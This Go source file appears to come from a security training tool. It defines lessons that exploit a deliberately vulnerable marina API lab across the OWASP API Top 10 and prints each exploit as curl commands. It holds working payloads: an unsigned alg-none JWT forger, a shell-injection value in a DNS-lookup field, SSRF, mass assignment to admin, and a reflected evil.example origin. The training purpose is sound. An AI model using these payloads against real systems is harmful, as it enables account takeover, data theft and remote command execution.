package learn

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"

	"github.com/escarp/escarp/internal/lab"
)

// Lesson is a guided exercise on the lab for one class of flaw: what it is
// and why it matters, an exploit to run against the running lab, the
// vulnerable code, the twin's fix, and the scan that verifies the fix.
type Lesson struct {
	ID    string `json:"id"`
	Title string `json:"title"`
	OWASP string `json:"owasp"`
	// Class is the weakness class (see [Classes]) the lesson teaches.
	Class string `json:"class"`
	// Flaw is the id of the lab flaw (internal/lab flaws.json) exploited.
	Flaw string `json:"flaw"`
	What string `json:"what"`
	// Exploit is the requests to send; the lesson's exploit succeeded when
	// the last one's answer meets Expect.
	Exploit []Step `json:"exploit"`
	Expect  Expect `json:"expect"`
	// Code names the lab functions that hold the flaw and its fix.
	Code []string `json:"code"`
	// Checks are the escarp scan checks that find the flaw: the verify
	// step runs `escarp scan --checks` with them.
	Checks []string `json:"checks"`
}

// Step is one request of an exploit.
type Step struct {
	Method string `json:"method"`
	Path   string `json:"path"`
	// As is the lab user whose token the request carries ("alice", "bob",
	// "admin"); empty sends no credentials.
	As     string            `json:"as,omitempty"`
	Header map[string]string `json:"header,omitempty"`
	// Body is sent as JSON. {LAB} in it is replaced by the lab's URL.
	Body string `json:"body,omitempty"`
}

// Expect is what the answer of an exploit's last request shows when the
// exploit worked.
type Expect struct {
	Status   int    `json:"status,omitempty"`
	Contains string `json:"contains,omitempty"`
	// Header and HeaderValue: a response header that must have the value.
	Header      string `json:"header,omitempty"`
	HeaderValue string `json:"headerValue,omitempty"`
	// ItemsOver: the JSON array at /items holds more than this many items.
	ItemsOver int `json:"itemsOver,omitempty"`
}

// Lessons returns the lessons, in course order.
func Lessons() []Lesson { return slices.Clone(lessons) }

// LessonByID returns the lesson with the id, or nil.
func LessonByID(id string) *Lesson {
	for i := range lessons {
		if lessons[i].ID == id {
			l := lessons[i]
			return &l
		}
	}
	return nil
}

// LessonFor returns the lesson that teaches the flaw a rule reports: the
// lesson whose checks include the rule, else the lesson of its weakness
// class. It returns nil when no lesson fits.
func LessonFor(ruleID string, c *Class) *Lesson {
	for i := range lessons {
		if slices.Contains(lessons[i].Checks, ruleID) {
			l := lessons[i]
			return &l
		}
	}
	if c != nil {
		for i := range lessons {
			if lessons[i].Class == c.ID {
				l := lessons[i]
				return &l
			}
		}
	}
	return nil
}

// algNoneToken is an unsigned token naming bob (user 3), valid until 2100:
// the lab's verify accepts alg "none".
var algNoneToken = base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`)) + "." +
	base64.RawURLEncoding.EncodeToString([]byte(`{"iss":"quayside-marina","sub":"3","name":"bob","role":"member","iat":4102441200,"exp":4102444800}`)) + "."

var lessons = []Lesson{
	{
		ID: "bola", Title: "Broken object-level authorization: read another member's boat", OWASP: "API1:2023",
		Class: "object-authz", Flaw: "bola-read-boat",
		What: "The marina's boat endpoint loads a boat by the id in the URL and returns it to whoever asks. Boats 1 " +
			"and 2 belong to alice, boat 3 to bob. Log in as alice and ask for boat 3.",
		Exploit: []Step{{Method: "GET", Path: "/api/v2/boats/3", As: "alice"}},
		Expect:  Expect{Status: 200, Contains: "Mistral"},
		Code:    []string{"handleGetBoat", "ownedBoat"},
		Checks:  []string{"ESC-DAST-BOLA-001"},
	},
	{
		ID: "jwt", Title: "Broken authentication: a token with no signature", OWASP: "API2:2023",
		Class: "authentication", Flaw: "authn-alg-none",
		What: "The lab's token check takes the algorithm from the token's own header, and accepts \"none\". A token " +
			"that anybody can write, naming bob and carrying no signature, is taken for bob.",
		Exploit: []Step{{Method: "GET", Path: "/api/v2/users/me", Header: map[string]string{"Authorization": "Bearer " + algNoneToken}}},
		Expect:  Expect{Status: 200, Contains: `"username":"bob"`},
		Code:    []string{"verify"},
		Checks:  []string{"ESC-DAST-AUTHN-003"},
	},
	{
		ID: "exposure", Title: "Excessive data exposure: card numbers in a list", OWASP: "API3:2023",
		Class: "property-authz", Flaw: "prop-sensitive-data",
		What: "The payment-methods endpoint returns the stored record as it is: the full card number travels to the " +
			"browser, where only the last four digits are needed.",
		Exploit: []Step{{Method: "GET", Path: "/api/v2/payments/methods", As: "alice"}},
		Expect:  Expect{Status: 200, Contains: "4111111111111111"},
		Code:    []string{"handlePaymentMethods"},
		Checks:  []string{"ESC-DAST-PROP-003"},
	},
	{
		ID: "rate-limits", Title: "Unrestricted resource consumption: a page size with no limit", OWASP: "API4:2023",
		Class: "resource", Flaw: "rate-unbounded-limit",
		What: "The berths list takes a `limit` parameter and believes it. The description says at most 100; ask for " +
			"5,000 and the server builds and sends them all.",
		Exploit: []Step{{Method: "GET", Path: "/api/v2/berths?limit=5000"}},
		Expect:  Expect{Status: 200, ItemsOver: 100},
		Code:    []string{"handleBerths"},
		Checks:  []string{"ESC-DAST-RATE-002"},
	},
	{
		ID: "bfla", Title: "Broken function-level authorization: the admin user list", OWASP: "API5:2023",
		Class: "function-authz", Flaw: "bfla-admin-users",
		What:    "The admin area's user list checks that the caller is logged in, not that the caller is an admin.",
		Exploit: []Step{{Method: "GET", Path: "/api/v2/admin/users", As: "alice"}},
		Expect:  Expect{Status: 200, Contains: "carol"},
		Code:    []string{"handleAdminUsers"},
		Checks:  []string{"ESC-DAST-BFLA-001"},
	},
	{
		ID: "business-flow", Title: "Sensitive business flows: a booking of minus five nights", OWASP: "API6:2023",
		Class: "business-flow", Flaw: "flow-negative-nights",
		What: "The booking endpoint multiplies the nightly price by the number of nights the client sends. Nothing " +
			"stops a negative number, and the marina owes the member money.",
		Exploit: []Step{{Method: "POST", Path: "/api/v2/bookings", As: "alice", Body: `{"berth_id": 2, "nights": -5}`}},
		Expect:  Expect{Status: 201, Contains: `"total_cents":-`},
		Code:    []string{"handleCreateBooking"},
		Checks:  []string{"ESC-DAST-FLOW-003"},
	},
	{
		ID: "ssrf", Title: "Server-side request forgery: a webhook to the server itself", OWASP: "API7:2023",
		Class: "ssrf", Flaw: "ssrf-webhook-internal",
		What: "The webhook tester posts to any URL and shows what came back, internal addresses included: the lab " +
			"becomes a proxy into its own network. Point it at the lab's own loopback address.",
		Exploit: []Step{{Method: "POST", Path: "/api/v2/webhooks/test", As: "alice", Body: `{"url": "{LAB}/api/v2/health"}`}},
		Expect:  Expect{Status: 200, Contains: `"response"`},
		Code:    []string{"handleWebhookTest"},
		Checks:  []string{"ESC-DAST-SSRF-002"},
	},
	{
		ID: "injection", Title: "Injection: a shell behind a DNS lookup", OWASP: "API8:2023",
		Class: "command-injection", Flaw: "inj-command-lookup",
		What: "The DNS tool builds a shell command from the host name it receives. Anything after a `;` runs on the " +
			"server.",
		Exploit: []Step{{Method: "POST", Path: "/api/v2/tools/dns-lookup", As: "alice", Body: `{"host": "localhost; echo INJECTED-$((6*7))"}`}},
		Expect:  Expect{Contains: "INJECTED-42"},
		Code:    []string{"handleDNSLookup"},
		Checks:  []string{"ESC-DAST-INJ-003"},
	},
	{
		ID: "misconfiguration", Title: "Security misconfiguration: CORS that trusts every origin", OWASP: "API8:2023",
		Class: "misconfiguration", Flaw: "conf-cors-reflection",
		What: "The lab copies the caller's Origin header into Access-Control-Allow-Origin and allows credentials: " +
			"any website a member visits can read the member's data through the member's browser.",
		Exploit: []Step{{Method: "GET", Path: "/api/v2/users/me", As: "alice", Header: map[string]string{"Origin": "https://evil.example"}}},
		Expect:  Expect{Header: "Access-Control-Allow-Origin", HeaderValue: "https://evil.example"},
		Code:    []string{"wrap"},
		Checks:  []string{"ESC-DAST-CONF-001"},
	},
	{
		ID: "inventory", Title: "Improper inventory: a debug endpoint nobody documented", OWASP: "API9:2023",
		Class: "inventory", Flaw: "inv-undocumented-debug",
		What: "The description lists every public operation but not /debug/vars, which answers anyone, with the " +
			"server's configuration.",
		Exploit: []Step{{Method: "GET", Path: "/debug/vars"}},
		Expect:  Expect{Status: 200, Contains: "jwt_secret"},
		Code:    []string{"routes"},
		Checks:  []string{"ESC-DAST-INV-001"},
	},
	{
		ID: "mass-assignment", Title: "Mass assignment: promote yourself to admin", OWASP: "API3:2023",
		Class: "property-authz", Flaw: "prop-mass-assignment",
		What: "The profile update binds the whole JSON body onto the user record, `role` included. bob sends " +
			"`\"role\": \"admin\"` with his phone number, then reads his profile back. (This lesson changes bob's " +
			"role on the running lab: restart the lab to undo it.)",
		Exploit: []Step{
			{Method: "PATCH", Path: "/api/v2/users/me", As: "bob", Body: `{"role": "admin", "phone": "+44 1632 960999"}`},
			{Method: "GET", Path: "/api/v2/users/me", As: "bob"},
		},
		Expect: Expect{Status: 200, Contains: `"role":"admin"`},
		Code:   []string{"handleUpdateMe"},
		Checks: []string{"ESC-DAST-PROP-001"},
	},
}

// Met reports whether an answer shows that the exploit worked.
func (e Expect) Met(status int, header http.Header, body []byte) bool {
	if e.Status != 0 && status != e.Status {
		return false
	}
	if e.Contains != "" && !bytes.Contains(body, []byte(e.Contains)) {
		return false
	}
	if e.Header != "" && header.Get(e.Header) != e.HeaderValue {
		return false
	}
	if e.ItemsOver > 0 {
		var v struct {
			Items []json.RawMessage `json:"items"`
		}
		if json.Unmarshal(body, &v) != nil || len(v.Items) <= e.ItemsOver {
			return false
		}
	}
	return true
}

// Doer sends HTTP requests; *http.Client is one.
type Doer interface {
	Do(*http.Request) (*http.Response, error)
}

// Attempt is the outcome of running a lesson's exploit.
type Attempt struct {
	Worked bool
	Status int
	// Body is the start of the last answer, for the learner to read.
	Body string
}

// Try runs the lesson's exploit against the lab at base (its URL, no
// trailing slash), logging its users in first. The requests are exactly
// those [Lesson.Curl] prints.
func (l *Lesson) Try(ctx context.Context, c Doer, base string) (*Attempt, error) {
	tokens := map[string]string{}
	var last *Attempt
	for _, st := range l.Exploit {
		if st.As != "" && tokens[st.As] == "" {
			tok, err := login(ctx, c, base, st.As)
			if err != nil {
				return nil, err
			}
			tokens[st.As] = tok
		}
		req, err := st.request(ctx, base, tokens[st.As])
		if err != nil {
			return nil, err
		}
		resp, err := c.Do(req)
		if err != nil {
			return nil, fmt.Errorf("lesson %s: %s %s: %w", l.ID, st.Method, st.Path, err)
		}
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
		resp.Body.Close()
		last = &Attempt{Status: resp.StatusCode, Body: string(body[:min(len(body), 600)]),
			Worked: l.Expect.Met(resp.StatusCode, resp.Header, body)}
	}
	if last == nil {
		return nil, fmt.Errorf("lesson %s has no exploit", l.ID)
	}
	return last, nil
}

func (st Step) request(ctx context.Context, base, token string) (*http.Request, error) {
	var body io.Reader
	if st.Body != "" {
		body = strings.NewReader(strings.ReplaceAll(st.Body, "{LAB}", base))
	}
	req, err := http.NewRequestWithContext(ctx, st.Method, base+st.Path, body)
	if err != nil {
		return nil, err
	}
	if st.Body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for k, v := range st.Header {
		req.Header.Set(k, v)
	}
	return req, nil
}

// password returns a lab user's password.
func password(user string) string {
	for _, u := range lab.Users() {
		if u.Username == user {
			return u.Password
		}
	}
	return ""
}

func login(ctx context.Context, c Doer, base, user string) (string, error) {
	body, _ := json.Marshal(map[string]string{"username": user, "password": password(user)})
	req, err := http.NewRequestWithContext(ctx, "POST", base+"/api/v2/auth/login", bytes.NewReader(body))
	if err != nil {
		return "", err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.Do(req)
	if err != nil {
		return "", fmt.Errorf("log in as %s: %w", user, err)
	}
	defer resp.Body.Close()
	var out struct {
		AccessToken string `json:"access_token"`
	}
	if err := json.NewDecoder(io.LimitReader(resp.Body, 1<<16)).Decode(&out); err != nil || out.AccessToken == "" {
		return "", fmt.Errorf("log in as %s: status %d, no access_token (is this the escarp lab?)", user, resp.StatusCode)
	}
	return out.AccessToken, nil
}

// Curl returns the exploit as shell commands against the lab at base:
// a login per user, then each request.
func (l *Lesson) Curl(base string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "LAB=%s\n", base)
	seen := map[string]bool{}
	for _, st := range l.Exploit {
		if st.As == "" || seen[st.As] {
			continue
		}
		seen[st.As] = true
		fmt.Fprintf(&b, "%s=$(curl -s \"$LAB/api/v2/auth/login\" -H 'Content-Type: application/json' \\\n  -d '{\"username\":\"%s\",\"password\":\"%s\"}' | sed -E 's/.*\"access_token\":\"([^\"]+)\".*/\\1/')\n",
			tokenVar(st.As), st.As, password(st.As))
	}
	for _, st := range l.Exploit {
		fmt.Fprintf(&b, "curl -s -i -X %s \"$LAB%s\"", st.Method, st.Path)
		if st.As != "" {
			fmt.Fprintf(&b, " \\\n  -H \"Authorization: Bearer $%s\"", tokenVar(st.As))
		}
		keys := make([]string, 0, len(st.Header))
		for k := range st.Header {
			keys = append(keys, k)
		}
		slices.Sort(keys)
		for _, k := range keys {
			fmt.Fprintf(&b, " \\\n  -H '%s: %s'", k, st.Header[k])
		}
		if st.Body != "" {
			body := strings.ReplaceAll(st.Body, "{LAB}", "'\"$LAB\"'")
			fmt.Fprintf(&b, " \\\n  -H 'Content-Type: application/json' -d '%s'", body)
		}
		b.WriteString("\n")
	}
	return b.String()
}

func tokenVar(user string) string { return strings.ToUpper(user) + "_TOKEN" }

// VerifyCommand is the scan that proves the fix: run against the twin it
// reports nothing, against the vulnerable lab it finds the flaw.
func (l *Lesson) VerifyCommand() string {
	return "escarp scan --checks " + strings.Join(l.Checks, ",")
}

// Source returns the lab functions the lesson reads.
func (l *Lesson) Source() ([]*lab.Excerpt, error) {
	var out []*lab.Excerpt
	for _, fn := range l.Code {
		ex, err := lab.SourceExcerpt(fn)
		if err != nil {
			return nil, fmt.Errorf("lesson %s: %w", l.ID, err)
		}
		out = append(out, ex)
	}
	return out, nil
}
